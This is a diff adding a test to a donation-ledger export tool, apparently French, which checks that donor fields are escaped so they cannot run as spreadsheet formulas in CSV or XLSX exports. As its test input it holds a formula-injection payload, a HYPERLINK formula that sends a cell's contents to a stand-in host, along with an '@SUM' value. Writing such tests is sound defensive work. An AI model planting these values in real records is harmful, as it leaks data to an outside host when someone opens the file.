@@ -187,3 +187,27 @@ def test_money_awaiting_a_refund_is_out_of_the_receipts_and_blocks_the_filing_ex
     assert code == 0 and ["Total général", "4600,00"] in rows
     assert ["Total Carte bancaire", "100,00"] in rows  # 300 € less the 200 € refund
     assert not any(row and row[0].startswith("À rembourser") for row in rows)
+
+
+def test_export_never_turns_a_donor_field_into_a_formula(runner, demo_site, tmp_path) -> None:
+    from datetime import date
+
+    from app.ledger.service import GiftInput, record_gift
+    from tests.ledger.conftest import identity
+
+    payload = '=HYPERLINK("http://x/?"&B2,"ok")'
+    record_gift(GiftInput(campaign_id=demo_site.campaign.id, amount_cents=5_000,
+                          on=date(2026, 11, 2), method="cheque",
+                          identity=identity(payload, "@SUM(A1)"), source_ref="c:f"))
+    out = tmp_path / "d.csv"
+    runner.invoke(args=["donations", "export", "--site", "demo", "--format", "csv",
+                        "--out", str(out)])
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig")), delimiter=";"))
+    row = next(r for r in rows if len(r) > 4 and payload in r[3])
+    assert row[3] == "'" + payload and row[4] == "'@SUM(A1)" and row[11] == "50,00"
+    xlsx = tmp_path / "d.xlsx"
+    runner.invoke(args=["donations", "export", "--site", "demo", "--format", "xlsx",
+                        "--out", str(xlsx)])
+    cells = [c for r in load_workbook(xlsx).active.iter_rows() for c in r
+             if isinstance(c.value, str) and payload in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
